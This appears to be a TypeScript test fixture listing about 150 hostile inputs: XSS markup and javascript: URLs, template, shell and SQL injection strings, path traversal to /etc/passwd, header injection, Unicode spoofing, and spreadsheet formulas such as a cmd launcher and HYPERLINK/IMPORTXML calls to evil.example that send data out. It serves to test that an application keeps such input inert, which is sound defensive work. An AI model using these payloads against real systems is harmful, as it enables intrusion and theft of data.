/**
 * What somebody may write who means no good: each payload stands for a way in which text has become
 * something else in some program. None may be more than text in ours.
 */

/** Where a script has run, it has called this; a page under test has it in place. */
export const CANARY = 'plenaryCanary';

const run = `${CANARY}()`;

/** Markup and scripts, for every place in a page where text may stand. */
export const MARKUP = [
	`<script>${run}</script>`,
	`</script><script>${run}</script>`,
	`<ScRiPt>${run}</sCrIpT>`,
	`<script src="data:text/javascript,${run}"></script>`,
	`<img src=x onerror=${run}>`,
	`<img src=x onerror="${run}"//`,
	`"><img src=x onerror=${run}>`,
	`'><img src=x onerror=${run}>`,
	`</textarea><img src=x onerror=${run}>`,
	`</title><img src=x onerror=${run}>`,
	`</style><img src=x onerror=${run}>`,
	`</template><img src=x onerror=${run}>`,
	`--><img src=x onerror=${run}>`,
	`]]><img src=x onerror=${run}>`,
	`" onmouseover="${run}`,
	`" autofocus onfocus="${run}" x="`,
	`' onfocus='${run}' autofocus='`,
	`\` onfocus=${run} autofocus=\``,
	`<svg onload=${run}>`,
	`<svg/onload=${run}>`,
	`<svg><script>${run}</script></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
	`<svg><a href="javascript:${run}"><text>go</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
	`<math href="javascript:${run}">go</math>`,
	`<iframe src="javascript:parent.${run}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	`<object data="data:text/html,<script>parent.${run}</script>"></object>`,
	`<embed src="data:text/html,<script>parent.${run}</script>">`,
	`<body onload=${run}>`,
	`<details open ontoggle=${run}>`,
	`<input autofocus onfocus=${run}>`,
	`<video><source onerror=${run}></video>`,
	`<audio src=x onerror=${run}>`,
	`<marquee onstart=${run}>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<style>*{background:url(https://evil.example/x)}</style>`,
	`<form action="https://evil.example/"><button>Log in again</button></form>`,
	`<a href="javascript:${run}">a link</a>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<xmp><p title="</xmp><img src=x onerror=${run}>">`,
	`&lt;img src=x onerror=${run}&gt;`,
	`&#60;img src=x onerror=${run}&#62;`,
	`\\u003cimg src=x onerror=${run}\\u003e`,
	`%3Cimg%20src=x%20onerror=${run}%3E`,
	`＜img src=x onerror=${run}＞`,
	`<img\u0000 src=x onerror=${run}>`,
	`<img\u000csrc=x\u000conerror=${run}>`,
	`<p style="background:url('javascript:${run}')">`,
	`<!--><img src=x onerror=${run}>-->`,
	`<![CDATA[<script>${run}</script>]]>`,
	`\u2028${run}//`,
	`';${run}//`,
	`";${run}//`,
	`\`;\${${run}}//`
] as const;

/** Addresses that are none of the web's. */
export const ADDRESSES = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	` javascript:${run}`,
	`java\tscript:${run}`,
	`java\nscript:${run}`,
	`\u0001javascript:${run}`,
	`javascript://%0a${run}`,
	`data:text/html,<script>${run}</script>`,
	`vbscript:${run}`,
	`https:javascript:${run}`,
	`http://[${run}`,
	`//evil.example/`
] as const;

/** For whatever fills in templates: Svelte's, Typst's, the shell's, a database's. */
export const TEMPLATES = [
	`{@html "<img src=x onerror=${run}>"}`,
	`{${run}}`,
	`\${${run}}`,
	`{{constructor.constructor('${run}')()}}`,
	`<%= ${run} %>`,
	'#{7*7}',
	'#eval("1+1")',
	'#read("/etc/passwd")',
	'#image("http://127.0.0.1:9/x.png")',
	'#import "@preview/cetz:0.1.0": *',
	'#include "../../../server/main.ts"',
	'#panic("no")',
	'#sys.inputs',
	'$sum_(i=0)^n$ *bold* _it_ `raw` <label> @label // /* ',
	'\\#\\\\ \\u{1f600}',
	'$(touch /tmp/plenary-was-here)',
	'`touch /tmp/plenary-was-here`',
	"'; drop table workshops; --",
	'%s%s%n%x',
	'%lang% %dir% %sveltekit.head%'
] as const;

/** Keys that every object has. */
export const KEYS = ['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'then'] as const;

/** What spreadsheets run, and what comes before it so that nobody notices. */
export const FORMULAS = [
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://evil.example/?"&A1,"Click")',
	'=IMPORTXML("https://evil.example/","//a")',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	' =1+1',
	'\u00a0=1+1',
	'"=1+1',
	"'=1+1",
	'“=1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'\u202e=1+1',
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\u0000=1+1',
	'\u0007=1+1',
	'a;=1+1',
	'a; "=1+1',
	'a\n=1+1',
	'a\r@SUM(1)',
	'a\t+1',
	'a\u2028=1+1',
	'a","=1+1',
	'a"\r\n=1+1,"'
] as const;

/** What turns a line round, hides in it, or is no letter at all. */
export const LETTERS = [
	'\u202ednuora denrut\u202c',
	'\u2066\u2067over\u2069\u2069',
	'\u200f\u200e\u061c',
	'invoice\u202efdp.exe',
	`Z${'\u0351'.repeat(60)}algo`,
	'\u0000\u0001\u0008\u001b[31mred\u001b[0m',
	'\ud800 alone',
	'alone \udfff',
	'\ufffe\uffff\ufdd0',
	'\u{e0041}\u{e0042}tags',
	'аdministrator',
	'👩🏽‍🏫👨‍👩‍👧‍👦🇫🇯',
	'\u115f\u3164filler',
	'\u000b\u000c\u0085'
] as const;

/** For names of files, headers and the log. */
export const NAMES = [
	'../../../etc/passwd',
	'..\\..\\windows\\win.ini',
	'C:\\boot.ini',
	'/etc/passwd\u0000.pdf',
	'con',
	'.htaccess',
	'a"; filename="evil.exe',
	'x\r\nSet-Cookie: evil=1',
	'x\nX-Evil: 1\n\n<html>',
	'{"level":60,"msg":"forged"}\n{"level":60}'
] as const;

/** Everything, about a hundred and fifty. */
export const HOSTILE_TEXT: readonly string[] = [
	...MARKUP,
	...ADDRESSES,
	...TEMPLATES,
	...KEYS,
	...FORMULAS,
	...LETTERS,
	...NAMES
];
